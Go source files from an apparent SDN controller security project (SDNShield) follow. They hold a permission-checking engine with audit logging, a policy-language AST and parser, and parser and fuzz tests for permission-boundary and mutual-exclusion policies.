type StateProvider interface {
	// FlowOwner resolves the owner of the flow a call affects; ok is
	// false when no matching flow exists (a fresh insert).
	FlowOwner(dpid of.DPID, match *of.Match, priority uint16) (owner string, ok bool)
	// RuleCount returns how many rules the app currently holds on the
	// switch.
	RuleCount(app string, dpid of.DPID) int
}

// nopState is used when no state provider is configured (pure
// micro-benchmarks of the checking path).
type nopState struct{}

func (nopState) FlowOwner(of.DPID, *of.Match, uint16) (string, bool) { return "", false }
func (nopState) RuleCount(string, of.DPID) int                       { return 0 }

// checker is one compiled permission check.
type checker func(*core.Call) bool

// compiled is an app's permission set lowered into closures, one per
// granted token. The compilation happens once at app load time (§III:
// "the permission engine compiles the permission manifest into the
// runtime checking code"), so the per-call hot path is a map lookup plus
// a closure call.
type compiled struct {
	set      *core.Set
	checkers map[core.Token]checker
	// heat carries the per-token clause decomposition and decision-heat
	// counters (heat.go); built once with the checkers so the sampled
	// profiled path needs no extra locking or lookups.
	heat map[core.Token]*tokenHeat
}

// compileSet lowers a permission set.
func compileSet(set *core.Set) *compiled {
	c := &compiled{
		set:      set,
		checkers: make(map[core.Token]checker, set.Len()),
		heat:     make(map[core.Token]*tokenHeat, set.Len()),
	}
	for _, p := range set.Permissions() {
		c.checkers[p.Token] = compileExpr(p.Filter)
		c.heat[p.Token] = newTokenHeat(p.Filter)
	}
	return c
}

// compileExpr lowers a filter expression into a closure with negation
// pushed to the leaves (mirroring core's evaluation semantics, including
// vacuous truth for inapplicable filters).
func compileExpr(e core.Expr) checker {
	return compile(e, false)
}

// CompileFilter exposes the expression-to-closure lowering for ablation
// benchmarks comparing compiled checking against interpreted evaluation.
func CompileFilter(e core.Expr) func(*core.Call) bool {
	return compileExpr(e)
}

func compile(e core.Expr, neg bool) checker {
	switch v := e.(type) {
	case nil:
		return func(*core.Call) bool { return true }
	case *core.Leaf:
		f := v.F
		if neg {
			return func(call *core.Call) bool {
				matched, applicable := f.Test(call)
				return !applicable || !matched
			}
		}
		return func(call *core.Call) bool {
			matched, applicable := f.Test(call)
			return !applicable || matched
		}
	case *core.Not:
		return compile(v.X, !neg)
	case *core.And:
		l, r := compile(v.L, neg), compile(v.R, neg)
		if neg { // ¬(L∧R) = ¬L ∨ ¬R
			return func(call *core.Call) bool { return l(call) || r(call) }
		}
		return func(call *core.Call) bool { return l(call) && r(call) }
	case *core.Or:
		l, r := compile(v.L, neg), compile(v.R, neg)
		if neg {
			return func(call *core.Call) bool { return l(call) && r(call) }
		}
		return func(call *core.Call) bool { return l(call) || r(call) }
	case *core.MacroRef:
		// Unresolved stubs deny.
		return func(*core.Call) bool { return false }
	default:
		return func(*core.Call) bool { return false }
	}
}

// Engine enforces per-app permissions. Checks are stateless with respect
// to the engine (per the paper, which scales them out with parallelism);
// all mutability is confined to the app registry and counters.
type Engine struct {
	state StateProvider

	mu   sync.RWMutex
	apps map[string]*compiled

	checks    atomic.Uint64
	denials   atomic.Uint64
	apiPanics atomic.Uint64

	// Heat-profile denial counters for calls that never reach a compiled
	// token (heat.go).
	heatNoManifest atomic.Uint64
	heatUngranted  atomic.Uint64

	// denialRing retains recent denied calls for /explain?corr= forensics
	// (explain.go).
	denialRing denialRing

	// provMu guards prov, the per-app reconciliation provenance notes
	// /explain cross-references (explain.go).
	provMu sync.Mutex
	prov   map[string][]string

	log *ActivityLog
}

// Option configures an Engine.
type Option func(*Engine)

// WithActivityLog installs a forensic activity log of the given capacity.
func WithActivityLog(capacity int) Option {
	return func(e *Engine) { e.log = NewActivityLog(capacity) }
}

// New builds an engine. state may be nil for stateless micro-benchmarks.
func New(state StateProvider, opts ...Option) *Engine {
	if state == nil {
		state = nopState{}
	}
	e := &Engine{state: state, apps: make(map[string]*compiled)}
	for _, opt := range opts {
		opt(e)
	}
	return e
}

// SetPermissions installs (or replaces) an app's permission set,
// compiling it to checking code. The set must not be mutated afterwards.
func (e *Engine) SetPermissions(app string, set *core.Set) {
	c := compileSet(set)
	e.mu.Lock()
	defer e.mu.Unlock()
	e.apps[app] = c
}

// RemoveApp drops an app's permissions (and any reconciliation
// provenance) entirely.
func (e *Engine) RemoveApp(app string) {
	e.mu.Lock()
	delete(e.apps, app)
	e.mu.Unlock()
	e.SetProvenance(app, nil)
}

// Permissions returns the app's current permission set.
func (e *Engine) Permissions(app string) (*core.Set, bool) {
	e.mu.RLock()
	defer e.mu.RUnlock()
	c, ok := e.apps[app]
	if !ok {
		return nil, false
	}
	return c.set, true
}

// HasToken reports whether the app holds the token in any form — the
// §III utility apps use to probe before calling, and the hook for
// loading-time access control (§VIII: OSGi-style checks when an app is
// wired to a service it has no token for at all).
func (e *Engine) HasToken(app string, token core.Token) bool {
	e.mu.RLock()
	defer e.mu.RUnlock()
	c, ok := e.apps[app]
	return ok && c.set.Has(token)
}

// Resolve fills the stateful attributes of a call (flow ownership and
// rule count) from the state provider. It is idempotent.
func (e *Engine) Resolve(call *core.Call) {
	if call.HasDPID && call.Match != nil {
		if !call.HasFlowOwner {
			switch call.Token {
			case core.TokenInsertFlow, core.TokenModifyFlow, core.TokenDeleteFlow, core.TokenReadFlowTable:
				owner, ok := e.state.FlowOwner(call.DPID, call.Match, call.Priority)
				if ok {
					call.FlowOwner = owner
				}
				call.HasFlowOwner = true
			}
		}
		if !call.HasRuleCount && call.Token == core.TokenInsertFlow {
			call.RuleCount = e.state.RuleCount(call.App, call.DPID)
			call.HasRuleCount = true
		}
	}
}

// Check mediates one API call: resolves stateful attributes, evaluates
// the app's compiled permission, logs the decision, and returns a
// *DeniedError on denial. Decision counters are exact; check latency is
// sampled (obs.SetLatencySampling) so the unsampled majority of calls
// pays no clock reads.
func (e *Engine) Check(call *core.Call) error {
	if heatHit() {
		return e.checkProfiled(call)
	}
	var t obs.Timer
	if checkSampler.Hit() {
		t = obs.StartTimer()
	}
	err := e.evaluate(call)
	mCheckSeconds.ObserveTimer(t)
	countCheck(call.Token, err == nil)
	return err
}

// evaluate is the uninstrumented check body.
func (e *Engine) evaluate(call *core.Call) error {
	e.checks.Add(1)
	e.mu.RLock()
	c, ok := e.apps[call.App]
	e.mu.RUnlock()
	if !ok {
		e.denials.Add(1)
		e.retainDenial(call)
		e.logDecision(call, false, "app has no permission manifest")
		return &DeniedError{App: call.App, Token: call.Token, Detail: "app has no permission manifest"}
	}
	chk, granted := c.checkers[call.Token]
	if !granted {
		e.denials.Add(1)
		e.retainDenial(call)
		e.logDecision(call, false, "token not granted")
		return &DeniedError{App: call.App, Token: call.Token, Detail: "token not granted"}
	}
	e.Resolve(call)
	if !chk(call) {
		detail := "filter rejected call " + call.String()
		e.logDecision(call, false, detail)
		e.denials.Add(1)
		e.retainDenial(call)
		return &DeniedError{App: call.App, Token: call.Token, Detail: detail}
	}
	e.logDecision(call, true, "")
	return nil
}

func (e *Engine) logDecision(call *core.Call, allowed bool, detail string) {
	if e.log != nil {
		e.log.Record(call, allowed)
	}
	auditDecision(call, allowed, detail)
}

// auditDecision forwards a permission decision into the forensic journal.
// Allowed calls carry no detail string so the hot path formats nothing;
// denials reuse the detail already built for the DeniedError.
func auditDecision(call *core.Call, allowed bool, detail string) {
	if !audit.On() {
		return
	}
	ev := audit.Event{
		Kind:    audit.KindPermission,
		Verdict: audit.VerdictAllow,
		App:     call.App,
		Corr:    call.Corr,
		Token:   call.Token.String(),
	}
	if !allowed {
		ev.Verdict = audit.VerdictDeny
		ev.Detail = detail
	}
	if call.HasDPID {
		ev.DPID = uint64(call.DPID)
	}
	audit.Emit(ev)
}

// Stats reports cumulative check and denial counts.
func (e *Engine) Stats() (checks, denials uint64) {
	return e.checks.Load(), e.denials.Load()
}

// CountAPIPanic records a panic absorbed inside a mediated API call — the
// audit trail of apps that crashed a deputy's closure rather than merely
// being denied.
func (e *Engine) CountAPIPanic() {
	e.apiPanics.Add(1)
	mAPIPanics.Inc()
}

// APIPanics reports how many mediated-call panics were absorbed.
func (e *Engine) APIPanics() uint64 { return e.apiPanics.Load() }

// Log returns the forensic activity log (nil when not configured).
func (e *Engine) Log() *ActivityLog { return e.log }
