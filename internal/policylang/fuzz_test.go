package policylang

import (
	"math/rand"
	"testing"
)

// TestPolicyParseFuzzNoPanics does the same for the policy language.
func TestPolicyParseFuzzNoPanics(t *testing.T) {
	corpus := []string{
		"ASSERT EITHER { PERM network_access } OR { PERM send_packet_out }",
		"LET t = { PERM read_statistics LIMITING PORT_LEVEL }\nASSERT APP m <= t",
		"LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}",
		"ASSERT (a MEET b) <= c AND NOT a = b",
		"LET x = APP monitor\nASSERT x < y OR y >= x",
	}
	r := rand.New(rand.NewSource(7))
	alphabet := []byte("ASERTLPM{}()<>=, \n_abc123")
	for _, src := range corpus {
		for i := 0; i < 500; i++ {
			mutated := []byte(src)
			for j := 0; j < 1+r.Intn(4); j++ {
				mutated[r.Intn(len(mutated))] = alphabet[r.Intn(len(alphabet))]
			}
			//nolint:errcheck
			Parse(string(mutated))
		}
	}
}

// FuzzParsePolicy is the native fuzz target behind `make fuzz-smoke`,
// seeded with the site policies the app-market subsystem reconciles
// against (examples/appstore, the market tests, and the boolean-assertion
// shapes the repair engine handles). The parser must never panic; what it
// accepts it must accept again after a resolve-free reparse of the same
// source.
func FuzzParsePolicy(f *testing.F) {
	seeds := []string{
		// The appstore site policy: stub bindings + mutual exclusions.
		"LET LocalTopo = {SWITCH 1,2,3,4}\nLET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}\nASSERT EITHER { PERM network_access } OR { PERM send_packet_out }\nASSERT EITHER { PERM network_access } OR { PERM insert_flow }\n",
		// The market-test boundary policy (bare app var <= binding).
		"LET Bound = { PERM read_statistics PERM visible_topology PERM insert_flow LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0 }\nASSERT EITHER { PERM network_access } OR { PERM process_runtime }\nASSERT mon <= Bound\n",
		// Boolean combinations the repair path distinguishes.
		"LET A = { PERM read_statistics }\nLET B = { PERM visible_topology }\nASSERT (monitor <= A) AND ((A <= B) OR (monitor <= B))\n",
		"LET Bound = { PERM read_statistics }\nASSERT NOT (NOT (monitor <= Bound))\n",
		"ASSERT (a MEET b) <= c AND NOT a = b",
		"LET x = APP monitor\nASSERT x < y OR y >= x",
		// Degenerate but legal inputs.
		"",
		"# only a comment\n",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if _, err := Parse(src); err != nil {
			return
		}
		if _, err := Parse(src); err != nil {
			t.Fatalf("accepted source rejected on reparse: %v\nsource: %q", err, src)
		}
	})
}
