package policylang

import (
	"math/rand"
	"testing"
)

// TestPolicyParseFuzzNoPanics does the same for the policy language.
func TestPolicyParseFuzzNoPanics(t *testing.T) {
	corpus := []string{
		"ASSERT EITHER { PERM network_access } OR { PERM send_packet_out }",
		"LET t = { PERM read_statistics LIMITING PORT_LEVEL }\nASSERT APP m <= t",
		"LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}",
		"ASSERT (a MEET b) <= c AND NOT a = b",
		"LET x = APP monitor\nASSERT x < y OR y >= x",
	}
	r := rand.New(rand.NewSource(7))
	alphabet := []byte("ASERTLPM{}()<>=, \n_abc123")
	for _, src := range corpus {
		for i := 0; i < 500; i++ {
			mutated := []byte(src)
			for j := 0; j < 1+r.Intn(4); j++ {
				mutated[r.Intn(len(mutated))] = alphabet[r.Intn(len(alphabet))]
			}
			//nolint:errcheck
			Parse(string(mutated))
		}
	}
}
