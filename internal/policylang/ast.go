// Package policylang implements the SDNShield security policy language
// (Appendix B of the paper): LET bindings for permission sets, filter
// macros and app references; mutual-exclusion constraints
// (ASSERT EITHER … OR …); and permission-boundary assertions built from
// comparison operators and the MEET/JOIN set operations.
//
// The package only parses and represents policies; evaluation against
// concrete manifests is the reconciliation engine's job
// (internal/reconcile).
package policylang

import (
	"fmt"
	"strings"

	"sdnshield/internal/core"
)

// Policy is a parsed security policy: an ordered list of bindings and
// constraints.
type Policy struct {
	Statements []Statement
}

// Bindings returns the LET statements in order.
func (p *Policy) Bindings() []*LetStmt {
	var out []*LetStmt
	for _, s := range p.Statements {
		if let, ok := s.(*LetStmt); ok {
			out = append(out, let)
		}
	}
	return out
}

// Constraints returns the ASSERT statements in order.
func (p *Policy) Constraints() []Statement {
	var out []Statement
	for _, s := range p.Statements {
		switch s.(type) {
		case *AssertExclusive, *AssertBool:
			out = append(out, s)
		}
	}
	return out
}

// String renders the policy in policy-language syntax.
func (p *Policy) String() string {
	parts := make([]string, len(p.Statements))
	for i, s := range p.Statements {
		parts[i] = s.String()
	}
	return strings.Join(parts, "\n")
}

// Statement is one policy statement.
type Statement interface {
	fmt.Stringer
	isStmt()
}

// LetStmt binds a name to a permission expression, a filter macro, or an
// app reference. Exactly one of Perm and Filter is set; an APP reference
// is a PermApp inside Perm.
type LetStmt struct {
	Name string
	// Perm is the bound permission expression (nil for filter bindings).
	Perm PermExpr
	// Filter is the bound filter macro (nil for permission bindings).
	Filter core.Expr
}

func (*LetStmt) isStmt() {}

// String implements Statement.
func (s *LetStmt) String() string {
	if s.Filter != nil {
		return fmt.Sprintf("LET %s = { %s }", s.Name, s.Filter)
	}
	return fmt.Sprintf("LET %s = %s", s.Name, s.Perm)
}

// AssertExclusive is a mutual-exclusion constraint: no single app may
// hold (a non-empty part of) both operand permissions.
type AssertExclusive struct {
	A, B PermExpr
}

func (*AssertExclusive) isStmt() {}

// String implements Statement.
func (s *AssertExclusive) String() string {
	return fmt.Sprintf("ASSERT EITHER %s OR %s", s.A, s.B)
}

// AssertBool is a permission-boundary constraint: a boolean combination
// of permission comparisons that must hold.
type AssertBool struct {
	Expr BoolExpr
}

func (*AssertBool) isStmt() {}

// String implements Statement.
func (s *AssertBool) String() string { return "ASSERT " + s.Expr.String() }

// ---------------------------------------------------------------------------
// Permission expressions

// PermExpr is an expression denoting a permission set.
type PermExpr interface {
	fmt.Stringer
	isPermExpr()
}

// PermLit is a literal permission block: { PERM … }.
type PermLit struct {
	Set *core.Set
}

func (*PermLit) isPermExpr() {}

// String implements PermExpr.
func (e *PermLit) String() string {
	perms := e.Set.Permissions()
	parts := make([]string, len(perms))
	for i, p := range perms {
		parts[i] = p.String()
	}
	return "{ " + strings.Join(parts, " ") + " }"
}

// PermVar references a LET-bound variable.
type PermVar struct {
	Name string
}

func (*PermVar) isPermExpr() {}

// String implements PermExpr.
func (e *PermVar) String() string { return e.Name }

// PermApp references the permission manifest of a named app, resolved by
// the reconciliation engine from its app registry.
type PermApp struct {
	AppName string
}

func (*PermApp) isPermExpr() {}

// String implements PermExpr.
func (e *PermApp) String() string { return "APP " + e.AppName }

// PermMeet is the intersection (MEET) of two permission expressions.
type PermMeet struct {
	L, R PermExpr
}

func (*PermMeet) isPermExpr() {}

// String implements PermExpr.
func (e *PermMeet) String() string {
	return fmt.Sprintf("(%s MEET %s)", e.L, e.R)
}

// PermJoin is the union (JOIN) of two permission expressions.
type PermJoin struct {
	L, R PermExpr
}

func (*PermJoin) isPermExpr() {}

// String implements PermExpr.
func (e *PermJoin) String() string {
	return fmt.Sprintf("(%s JOIN %s)", e.L, e.R)
}

// ---------------------------------------------------------------------------
// Boolean (assertion) expressions

// CmpOp is a permission comparison operator.
type CmpOp uint8

// Comparison operators. Le is the paper's permission-boundary operator.
const (
	CmpLt CmpOp = iota + 1
	CmpGt
	CmpLe
	CmpGe
	CmpEq
)

// String renders the operator.
func (op CmpOp) String() string {
	switch op {
	case CmpLt:
		return "<"
	case CmpGt:
		return ">"
	case CmpLe:
		return "<="
	case CmpGe:
		return ">="
	case CmpEq:
		return "="
	default:
		return fmt.Sprintf("op(%d)", uint8(op))
	}
}

// BoolExpr is a boolean combination of permission comparisons.
type BoolExpr interface {
	fmt.Stringer
	isBoolExpr()
}

// CmpExpr compares two permission expressions.
type CmpExpr struct {
	L  PermExpr
	Op CmpOp
	R  PermExpr
}

func (*CmpExpr) isBoolExpr() {}

// String implements BoolExpr.
func (e *CmpExpr) String() string {
	return fmt.Sprintf("%s %s %s", e.L, e.Op, e.R)
}

// BoolAnd conjoins two assertions.
type BoolAnd struct {
	L, R BoolExpr
}

func (*BoolAnd) isBoolExpr() {}

// String implements BoolExpr.
func (e *BoolAnd) String() string { return fmt.Sprintf("(%s AND %s)", e.L, e.R) }

// BoolOr disjoins two assertions.
type BoolOr struct {
	L, R BoolExpr
}

func (*BoolOr) isBoolExpr() {}

// String implements BoolExpr.
func (e *BoolOr) String() string { return fmt.Sprintf("(%s OR %s)", e.L, e.R) }

// BoolNot negates an assertion.
type BoolNot struct {
	X BoolExpr
}

func (*BoolNot) isBoolExpr() {}

// String implements BoolExpr.
func (e *BoolNot) String() string { return "NOT " + e.X.String() }
