package policylang

import (
	"strings"
	"testing"

	"sdnshield/internal/core"
	"sdnshield/internal/of"
)

func TestParsePaperMutualExclusion(t *testing.T) {
	// §V-A: network_access and send_packet_out must not coexist.
	pol, err := Parse(`ASSERT EITHER { PERM network_access } OR { PERM send_packet_out }`)
	if err != nil {
		t.Fatal(err)
	}
	if len(pol.Statements) != 1 {
		t.Fatalf("got %d statements", len(pol.Statements))
	}
	excl, ok := pol.Statements[0].(*AssertExclusive)
	if !ok {
		t.Fatalf("statement = %T", pol.Statements[0])
	}
	a, ok := excl.A.(*PermLit)
	if !ok || !a.Set.Has(core.TokenHostNetwork) {
		t.Errorf("left operand = %v", excl.A)
	}
	b, ok := excl.B.(*PermLit)
	if !ok || !b.Set.Has(core.TokenSendPktOut) {
		t.Errorf("right operand = %v", excl.B)
	}
}

func TestParsePaperMonitorTemplate(t *testing.T) {
	// §V-A permission-boundary example, verbatim modulo line wraps.
	src := `
LET templatePerm = {
	PERM read_topology
	PERM read_statistics LIMITING PORT_LEVEL
	PERM network_access LIMITING IP_DST 192.168.0.0 MASK 255.255.0.0
}
ASSERT monitorAppPerm <= templatePerm
`
	pol, err := Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	lets := pol.Bindings()
	if len(lets) != 1 || lets[0].Name != "templatePerm" {
		t.Fatalf("bindings = %v", lets)
	}
	lit, ok := lets[0].Perm.(*PermLit)
	if !ok {
		t.Fatalf("binding value = %T", lets[0].Perm)
	}
	if !lit.Set.Has(core.TokenVisibleTopology) || !lit.Set.Has(core.TokenReadStatistics) ||
		!lit.Set.Has(core.TokenHostNetwork) {
		t.Errorf("template set = %s", lit.Set)
	}

	constraints := pol.Constraints()
	if len(constraints) != 1 {
		t.Fatalf("constraints = %v", constraints)
	}
	ab, ok := constraints[0].(*AssertBool)
	if !ok {
		t.Fatalf("constraint = %T", constraints[0])
	}
	cmp, ok := ab.Expr.(*CmpExpr)
	if !ok || cmp.Op != CmpLe {
		t.Fatalf("expr = %v", ab.Expr)
	}
	if v, ok := cmp.L.(*PermVar); !ok || v.Name != "monitorAppPerm" {
		t.Errorf("lhs = %v", cmp.L)
	}
}

func TestParseScenario1Policy(t *testing.T) {
	// §VII Scenario 1: stub bindings plus the mutual exclusion.
	src := `
LET LocalTopo = {SWITCH 0,1 LINK 0-1}
LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}
ASSERT EITHER { PERM network_access } OR { PERM insert_flow }
`
	pol, err := Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	lets := pol.Bindings()
	if len(lets) != 2 {
		t.Fatalf("bindings = %d", len(lets))
	}
	if lets[0].Filter == nil || lets[0].Perm != nil {
		t.Error("LocalTopo must bind a filter macro")
	}
	leaf, ok := lets[0].Filter.(*core.Leaf)
	if !ok {
		t.Fatalf("LocalTopo = %T", lets[0].Filter)
	}
	topo, ok := leaf.F.(*core.PhysTopoFilter)
	if !ok || !topo.AllowsSwitch(0) || !topo.AllowsSwitch(1) || topo.AllowsSwitch(2) {
		t.Errorf("LocalTopo = %v", leaf.F)
	}
	if !topo.AllowsLink(core.NewLinkID(0, 1)) {
		t.Error("explicit link 0-1 must be allowed")
	}

	leaf2 := lets[1].Filter.(*core.Leaf)
	pred, ok := leaf2.F.(*core.PredFilter)
	if !ok || pred.Field() != of.FieldIPDst ||
		of.IPv4(pred.Value()) != of.IPv4FromOctets(10, 1, 0, 0) {
		t.Errorf("AdminRange = %v", leaf2.F)
	}
}

func TestParseAppBindingAndSetOps(t *testing.T) {
	src := `
LET monitorPerm = APP monitor
LET combined = monitorPerm JOIN { PERM flow_event }
LET narrowed = combined MEET { PERM flow_event }
ASSERT narrowed <= combined
`
	pol, err := Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	lets := pol.Bindings()
	if app, ok := lets[0].Perm.(*PermApp); !ok || app.AppName != "monitor" {
		t.Errorf("APP binding = %v", lets[0].Perm)
	}
	if _, ok := lets[1].Perm.(*PermJoin); !ok {
		t.Errorf("JOIN = %v", lets[1].Perm)
	}
	meet, ok := lets[2].Perm.(*PermMeet)
	if !ok {
		t.Fatalf("MEET = %v", lets[2].Perm)
	}
	if v, ok := meet.L.(*PermVar); !ok || v.Name != "combined" {
		t.Errorf("MEET lhs = %v", meet.L)
	}
}

func TestParseBooleanCombinations(t *testing.T) {
	src := `ASSERT a <= b AND NOT (c = d) OR (a MEET b) <= c`
	pol, err := Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	ab := pol.Statements[0].(*AssertBool)
	or, ok := ab.Expr.(*BoolOr)
	if !ok {
		t.Fatalf("top = %T", ab.Expr)
	}
	and, ok := or.L.(*BoolAnd)
	if !ok {
		t.Fatalf("or.L = %T", or.L)
	}
	if _, ok := and.R.(*BoolNot); !ok {
		t.Errorf("and.R = %T", and.R)
	}
	right, ok := or.R.(*CmpExpr)
	if !ok {
		t.Fatalf("or.R = %T", or.R)
	}
	if _, ok := right.L.(*PermMeet); !ok {
		t.Errorf("parenthesized MEET misparsed: %T", right.L)
	}
}

func TestParseCmpOperators(t *testing.T) {
	ops := map[string]CmpOp{"<": CmpLt, ">": CmpGt, "<=": CmpLe, ">=": CmpGe, "=": CmpEq}
	for src, want := range ops {
		pol, err := Parse("ASSERT a " + src + " b")
		if err != nil {
			t.Fatalf("%s: %v", src, err)
		}
		cmp := pol.Statements[0].(*AssertBool).Expr.(*CmpExpr)
		if cmp.Op != want {
			t.Errorf("op %q parsed as %v", src, cmp.Op)
		}
	}
}

func TestPolicyStringRoundTrip(t *testing.T) {
	srcs := []string{
		`ASSERT EITHER { PERM host_network } OR { PERM send_pkt_out }`,
		`LET t = { PERM read_statistics LIMITING PORT_LEVEL }
ASSERT APP monitor <= t`,
		`LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}`,
		`ASSERT (a MEET b) <= c AND NOT a = b`,
	}
	for _, src := range srcs {
		p1, err := Parse(src)
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		p2, err := Parse(p1.String())
		if err != nil {
			t.Fatalf("reparse %q: %v", p1.String(), err)
		}
		if p1.String() != p2.String() {
			t.Errorf("unstable round trip:\n1: %s\n2: %s", p1, p2)
		}
	}
}

func TestParsePolicyErrors(t *testing.T) {
	tests := []struct {
		name, src, wantSubstr string
	}{
		{"stray token", "FROB x", "expected LET or ASSERT"},
		{"let without eq", "LET x { PERM flow_event }", "expected '='"},
		{"let without name", "LET = { PERM flow_event }", "expected a binding name"},
		{"assert without cmp", "ASSERT a b", "comparison operator"},
		{"unclosed block", "LET t = { PERM flow_event", "expected '}'"},
		{"bad perm in block", "LET t = { PERM warp_speed }", "unknown permission token"},
		{"either missing or", "ASSERT EITHER { PERM flow_event } { PERM pkt_in_event }", "expected OR"},
		{"app without name", "LET x = APP =", "expected an app name"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse(tt.src)
			if err == nil {
				t.Fatal("expected error")
			}
			if !strings.Contains(err.Error(), tt.wantSubstr) {
				t.Errorf("error %q missing %q", err, tt.wantSubstr)
			}
		})
	}
}

func TestParseMultiStatementPolicy(t *testing.T) {
	src := `
# template for all monitoring apps
LET templatePerm = {
	PERM read_topology
	PERM read_statistics LIMITING PORT_LEVEL
}
LET m1 = APP monitor1
LET m2 = APP monitor2
ASSERT m1 <= templatePerm
ASSERT m2 <= templatePerm
ASSERT EITHER { PERM host_network } OR { PERM insert_flow }
`
	pol, err := Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	if len(pol.Bindings()) != 3 || len(pol.Constraints()) != 3 {
		t.Errorf("got %d bindings, %d constraints", len(pol.Bindings()), len(pol.Constraints()))
	}
}
