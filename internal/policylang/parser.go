package policylang

import (
	"fmt"

	"sdnshield/internal/core"
	"sdnshield/internal/permlang"
)

// Parse parses a complete security policy.
func Parse(src string) (*Policy, error) {
	inner, err := permlang.NewParser(src)
	if err != nil {
		return nil, err
	}
	p := &parser{p: inner}
	policy := &Policy{}
	for p.p.Tok().Kind != permlang.TokEOF {
		stmt, err := p.parseStatement()
		if err != nil {
			return nil, err
		}
		policy.Statements = append(policy.Statements, stmt)
	}
	return policy, nil
}

// MustParse is Parse that panics on error, for tests and examples.
func MustParse(src string) *Policy {
	p, err := Parse(src)
	if err != nil {
		panic(err)
	}
	return p
}

// parser wraps the shared permission-language parser with the policy
// grammar.
type parser struct {
	p *permlang.Parser
}

func (p *parser) errorf(format string, args ...interface{}) error {
	tok := p.p.Tok()
	return &permlang.SyntaxError{Line: tok.Line, Col: tok.Col, Msg: fmt.Sprintf(format, args...)}
}

func (p *parser) parseStatement() (Statement, error) {
	switch {
	case p.isKeyword("LET"):
		return p.parseLet()
	case p.isKeyword("ASSERT"):
		return p.parseAssert()
	default:
		return nil, p.errorf("expected LET or ASSERT, found %q", p.p.Tok().Text)
	}
}

func (p *parser) isKeyword(kw string) bool {
	tok := p.p.Tok()
	if tok.Kind != permlang.TokIdent {
		return false
	}
	// Keywords are case-insensitive, matching the permission language.
	return equalFold(tok.Text, kw)
}

func equalFold(a, b string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := 0; i < len(a); i++ {
		ca, cb := a[i], b[i]
		if 'a' <= ca && ca <= 'z' {
			ca -= 'a' - 'A'
		}
		if 'a' <= cb && cb <= 'z' {
			cb -= 'a' - 'A'
		}
		if ca != cb {
			return false
		}
	}
	return true
}

func (p *parser) parseLet() (Statement, error) {
	if err := p.p.ExpectKeyword("LET"); err != nil {
		return nil, err
	}
	tok := p.p.Tok()
	if tok.Kind != permlang.TokIdent {
		return nil, p.errorf("expected a binding name, found %s", tok.Kind)
	}
	name := tok.Text
	if err := p.p.Next(); err != nil {
		return nil, err
	}
	if p.p.Tok().Kind != permlang.TokEq {
		return nil, p.errorf("expected '=' after LET %s", name)
	}
	if err := p.p.Next(); err != nil {
		return nil, err
	}

	// LET name = APP appname
	if p.isKeyword("APP") {
		if err := p.p.Next(); err != nil {
			return nil, err
		}
		appTok := p.p.Tok()
		if appTok.Kind != permlang.TokIdent && appTok.Kind != permlang.TokString {
			return nil, p.errorf("expected an app name")
		}
		if err := p.p.Next(); err != nil {
			return nil, err
		}
		return &LetStmt{Name: name, Perm: &PermApp{AppName: appTok.Text}}, nil
	}

	// LET name = { … }: a permission block if it opens with PERM, a
	// filter macro otherwise (the paper binds both shapes:
	// LET LocalTopo = {SWITCH 0,1 LINK …} and LET templatePerm = {PERM …}).
	if p.p.Tok().Kind == permlang.TokLBrace {
		save := p.p.Save()
		if err := p.p.Next(); err != nil {
			return nil, err
		}
		if p.isKeyword("PERM") {
			p.p.Restore(save)
			perm, err := p.parsePermPrimary()
			if err != nil {
				return nil, err
			}
			return p.finishLetPerm(name, perm)
		}
		// Filter macro binding.
		filter, err := p.p.ParseFilterExpr()
		if err != nil {
			return nil, err
		}
		if p.p.Tok().Kind != permlang.TokRBrace {
			return nil, p.errorf("expected '}' to close filter binding")
		}
		if err := p.p.Next(); err != nil {
			return nil, err
		}
		return &LetStmt{Name: name, Filter: filter}, nil
	}

	perm, err := p.parsePermExpr()
	if err != nil {
		return nil, err
	}
	return &LetStmt{Name: name, Perm: perm}, nil
}

// finishLetPerm continues a LET binding whose right side started with a
// permission block, allowing MEET/JOIN chains after it.
func (p *parser) finishLetPerm(name string, first PermExpr) (Statement, error) {
	perm, err := p.parsePermExprTail(first)
	if err != nil {
		return nil, err
	}
	return &LetStmt{Name: name, Perm: perm}, nil
}

func (p *parser) parseAssert() (Statement, error) {
	if err := p.p.ExpectKeyword("ASSERT"); err != nil {
		return nil, err
	}
	if p.isKeyword("EITHER") {
		if err := p.p.Next(); err != nil {
			return nil, err
		}
		a, err := p.parsePermExpr()
		if err != nil {
			return nil, err
		}
		if err := p.p.ExpectKeyword("OR"); err != nil {
			return nil, err
		}
		b, err := p.parsePermExpr()
		if err != nil {
			return nil, err
		}
		return &AssertExclusive{A: a, B: b}, nil
	}
	expr, err := p.parseBoolOr()
	if err != nil {
		return nil, err
	}
	return &AssertBool{Expr: expr}, nil
}

// ---------------------------------------------------------------------------
// Permission expressions

func (p *parser) parsePermExpr() (PermExpr, error) {
	first, err := p.parsePermPrimary()
	if err != nil {
		return nil, err
	}
	return p.parsePermExprTail(first)
}

func (p *parser) parsePermExprTail(left PermExpr) (PermExpr, error) {
	for {
		switch {
		case p.isKeyword("MEET"):
			if err := p.p.Next(); err != nil {
				return nil, err
			}
			right, err := p.parsePermPrimary()
			if err != nil {
				return nil, err
			}
			left = &PermMeet{L: left, R: right}
		case p.isKeyword("JOIN"):
			if err := p.p.Next(); err != nil {
				return nil, err
			}
			right, err := p.parsePermPrimary()
			if err != nil {
				return nil, err
			}
			left = &PermJoin{L: left, R: right}
		default:
			return left, nil
		}
	}
}

func (p *parser) parsePermPrimary() (PermExpr, error) {
	tok := p.p.Tok()
	switch {
	case tok.Kind == permlang.TokLParen:
		if err := p.p.Next(); err != nil {
			return nil, err
		}
		e, err := p.parsePermExpr()
		if err != nil {
